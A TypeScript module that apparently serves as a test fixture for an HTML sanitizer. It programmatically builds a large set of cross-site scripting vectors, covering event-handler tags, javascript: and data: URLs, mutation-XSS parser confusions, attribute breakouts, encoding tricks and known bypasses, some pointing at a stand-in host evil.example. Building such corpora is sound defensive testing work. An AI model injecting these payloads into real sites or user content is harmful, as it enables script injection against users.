/** What a vector runs if a browser lets it. */
export const payload = 'window.__xss=1'
const image = `<img src=x onerror=${payload}>`

/**
 * HTML that tries to run a script: tags with events, addresses with schemes, and shapes that one parser reads otherwise than
 * the next (raw text, namespaces, comments, quotes). Made rather than collected, so that every combination is there.
 */
export const xssVectors: readonly string[] = [
  ...new Set([
    ...withEvents(),
    ...withAddresses(),
    ...inOtherParsers(),
    ...brokenOutOf(),
    ...inOtherEncodings(),
    ...knownOnes(),
  ]),
]

const closers = `-->'">${['script', 'style', 'title', 'textarea', 'xmp', 'noscript', 'iframe', 'template', 'option', 'object', 'noembed', 'noframes', 'select', 'button', 'table', 'svg', 'math'].map((tag) => `</${tag}>`).join('')}`

/**
 * One text of vectors of every family, each with a paragraph with its number behind it, which ends what the vector has left
 * open. @param longest in characters
 */
export function xssText(longest: number): string {
  let text = ''
  for (let at = 0; text.length < longest - 400; at += 1) {
    const vector = xssVectors[(at * 7) % xssVectors.length] ?? ''
    if (!vector.includes('\0')) text += `${vector}${closers}<p>vector ${at}</p>`
  }
  return text
}

function withEvents(): string[] {
  const tags = [
    'a',
    'a href=/x',
    'img src=/a.jpg alt=x',
    'figure data-video=VIMEO data-video-id=12345678',
    'address',
    'audio src=x',
    'b',
    'blockquote',
    'body',
    'button',
    'details open',
    'div',
    'dialog open',
    'embed src=x',
    'figure',
    'form',
    'h2',
    'iframe',
    'template',
    'option',
    'object',
    'noembed',
    'noframes',
    'select',
    'button',
    'table',
    'img src=x',
    'input autofocus',
    'li',
    'link rel=stylesheet',
    'marquee',
    'math',
    'object data=x',
    'p',
    'select autofocus',
    'style',
    'svg',
    'svg><animate',
    'table',
    'td',
    'textarea autofocus',
    'video src=x',
    'x-y contenteditable',
    'isindex type=image src=x',
    'frameset',
  ]
  const events = [
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onmouseover',
    'ontoggle',
    'onpointerenter',
    'onanimationstart',
    'onbegin',
    'onstart',
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
  ]
  const joints = [' ', '/', '\t', '\n', '\f', '\r\n', ' / ', '\u000b', ' x="\'" ', " x='>' "]
  return tags.flatMap((tag, row) =>
    events.map((event, column) => {
      const joint = joints[(row + column) % joints.length]
      const name = column % 3 === 1 ? event.toUpperCase() : event
      const value = [payload, `"${payload}"`, `'${payload}'`, `\`${payload}\``][(row * 7 + column) % 4]
      return `<${tag}${joint}${name}=${value}>x</${tag.split(' ')[0]}>`
    }),
  )
}

function withAddresses(): string[] {
  const run = `${payload}//`
  const addresses = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `java&Tab;script:${run}`,
    `javascript&colon;${run}`,
    `&#106;&#97;vascript:${run}`,
    `&#x6A;avascript:${run}`,
    `&#0000106avascript:${run}`,
    `\u0001javascript:${run}`,
    ` &#14; javascript:${run}`,
    `javascript://%0a${payload}`,
    `//javascript:${run}`,
    `vbscript:${run}`,
    `data:text/html,<script>${payload}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${payload}'/>`,
    `blob:https://x/${run}`,
    `view-source:javascript:${run}`,
    `feed:javascript:${run}`,
    `\\\\evil.example\\x`,
    `/\\evil.example`,
    `https:javascript:${run}`,
  ]
  const places = [
    (address: string) => `<a href="${address}">x</a>`,
    (address: string) => `<a href='${address}' target=_blank>x</a>`,
    (address: string) => `<img src="${address}">`,
    (address: string) => `<img srcset="${address} 1x" src="/a.jpg">`,
    (address: string) => `<iframe src="${address}"></iframe>`,
    (address: string) => `<form action="${address}"><button>x</button></form>`,
    (address: string) => `<button formaction="${address}">x</button>`,
    (address: string) => `<object data="${address}"></object>`,
    (address: string) => `<embed src="${address}">`,
    (address: string) => `<base href="${address}">`,
    (address: string) => `<link rel=stylesheet href="${address}">`,
    (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
    (address: string) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
    (address: string) => `<svg><use href="${address}#x"/></svg>`,
    (address: string) => `<svg><animate attributeName=href values="${address}"/></svg>`,
    (address: string) => `<math href="${address}">x</math>`,
    (address: string) => `<table background="${address}"><tr><td>x</table>`,
    (address: string) => `<video poster="${address}"></video>`,
    (address: string) => `<p style="background:url('${address}')">x</p>`,
    (address: string) => `<p class="link-card"><a href="${address}"><strong>x</strong></a></p>`,
    (address: string) => `<figure data-video="YOUTUBE" data-video-id="${address}"></figure>`,
  ]
  return places.flatMap((place) => addresses.map(place))
}

function inOtherParsers(): string[] {
  const around = [
    '',
    '<svg>',
    '<math>',
    '<math><mtext>',
    '<svg><desc>',
    '<svg><foreignObject>',
    '<table>',
    '<select>',
    '<p>',
    '<math><annotation-xml encoding="text/html">',
    '<form><math><mtext></form><form><mglyph>',
    '<svg></p>',
  ]
  const rawText = [
    'style',
    'title',
    'textarea',
    'noscript',
    'xmp',
    'noembed',
    'noframes',
    'iframe',
    'template',
    'option',
    'object',
    'noembed',
    'noframes',
    'select',
    'button',
    'table',
    'template',
    'script',
    'plaintext',
    'option',
    'mglyph',
    'malignmark',
  ]
  const shapes = [
    (tag: string) => `<${tag}><a id="</${tag}>${image}">`,
    (tag: string) => `<${tag}><!--</${tag}>${image}-->`,
    (tag: string) => `<${tag}>${image}</${tag}>`,
    (tag: string) => `<p title="</${tag}>${image}"><${tag}>`,
  ]
  return around.flatMap((before) => rawText.flatMap((tag) => shapes.map((shape) => before + shape(tag))))
}

function brokenOutOf(): string[] {
  const attributes = [
    'href',
    'title',
    'alt',
    'id',
    'class',
    'data-video-id',
    'aria-label',
    'start',
    'colspan',
    'src',
  ]
  const breaks = [
    `">${image}`,
    `'>${image}`,
    `\` onerror=${payload} x=\``,
    `" onmouseover="${payload}`,
    `&quot;&gt;${image}`,
  ]
  const tags: Record<string, string> = {
    src: 'img',
    alt: 'img',
    start: 'ol',
    colspan: 'td',
    'data-video-id': 'figure',
  }
  return attributes.flatMap((name) =>
    breaks.flatMap((value) => {
      const tag = tags[name] ?? 'a'
      return [`<${tag} ${name}="${value}">x`, `<${tag} ${name}='${value}'>x`, `<${tag} ${name}=${value}>x`]
    }),
  )
}

function inOtherEncodings(): string[] {
  const scripts = [`<script>${payload}</script>`, image, `<svg onload=${payload}>`]
  const encode = [
    (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (text: string) => text.replaceAll('<', '&amp;lt;'),
    (text: string) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62'),
    (text: string) => text.replaceAll('<', '&#x3c;'),
    (text: string) => text.replaceAll('<', '\\u003c'),
    (text: string) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
    (text: string) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (text: string) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    (text: string) => text.replaceAll('<', '<\0'),
    (text: string) => text.replaceAll('s', '\u017f').replaceAll('i', '\u0131'),
    (text: string) => `\ufeff${text}`,
    (text: string) => `<${text}`,
    (text: string) => `<<${text.slice(1)}`,
    (text: string) => text.replace('>', ''),
    (text: string) => text.replaceAll(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
    (text: string) => `<!--><!--${text}-->`,
    (text: string) => `<!-->${text}-->`,
    (text: string) => `<!--x--!>${text}`,
    (text: string) => `<![CDATA[><${text.slice(1)}]]>`,
    (text: string) => `<?xml version="1.0"?>${text}`,
    (text: string) => `<?x ?><p title="?>${text}">`,
    (text: string) => `<!doctype x [<!entity y '${text}'>]>&y;`,
    (text: string) => `</p ${text}`,
    (text: string) => `<script/x>${payload}</script>${text}`,
  ]
  return encode.flatMap((change) => scripts.map(change))
}

function knownOnes(): string[] {
  return [
    `<svg><script>${payload}</script></svg>`,
    `<svg><style><img src=x onerror=${payload}></style></svg>`,
    `<svg><set attributeName=onmouseover to="${payload}"/></svg>`,
    `<svg><animate onbegin=${payload} attributeName=x dur=1s>`,
    `<svg><foreignObject><body onload=${payload}></foreignObject></svg>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${payload}">x</maction></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
    `<form><input name=attributes><input name=parentNode></form>`,
    `<a id=location href="/x">x</a><a id=location name=href href="/y">y</a>`,
    `<img name=getElementById src="/a.jpg"><h2 id=main>x</h2><p id="__proto__">`,
    `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>`,
    `<template><script>${payload}</script></template>`,
    `<div><template shadowrootmode=open><script>${payload}</script></template></div>`,
    `<object type="text/x-scriptlet" data="x"></object><applet code=x></applet>`,
    `<p style="width:expression(${payload});behavior:url(x);-moz-binding:url(x)">x</p>`,
    `<style>@import 'https://evil.example/x.css';p{background:url(https://evil.example)}</style>`,
    `<a href="https://x.example" ping="https://evil.example" download onauxclick=${payload}>x</a>`,
    `<section data-footnotes onclick=${payload}><h2 id="footnote-label" class="sr-only fixed">x</h2></section>`,
    `<a href="#x" id="a-fn-1" data-footnote-ref onclick=${payload}>1</a>`,
    `<div class="gallery fixed inset-0" onclick=${payload}><figure><img src="/a.jpg" onload=${payload}></figure></div>`,
    `<figure data-video="YOUTUBE" data-video-id="abcdefghijk"><figcaption><img src=x onerror=${payload}></figcaption></figure>`,
    `<td><script>${payload}</script></td><th scope="${image}">x</th>`,
    `<script src=data:,${payload}></script><script type=module>${payload}</script>`,
    `<link rel=import href="data:text/html,${image}"><link rel=preload as=script href=//evil.example>`,
    `<meta http-equiv=Content-Security-Policy content="script-src *"><meta charset=utf-7>`,
    `<noscript><p title="</noscript>${image}"></noscript>`,
    `<select><style></select>${image}</style></select>`,
    `<p><svg><![CDATA[</svg>${image}]]></svg></p>`,
    `<x/onclick=${payload}>x</x><xss onfocus=${payload} autofocus tabindex=1>`,
  ]
}
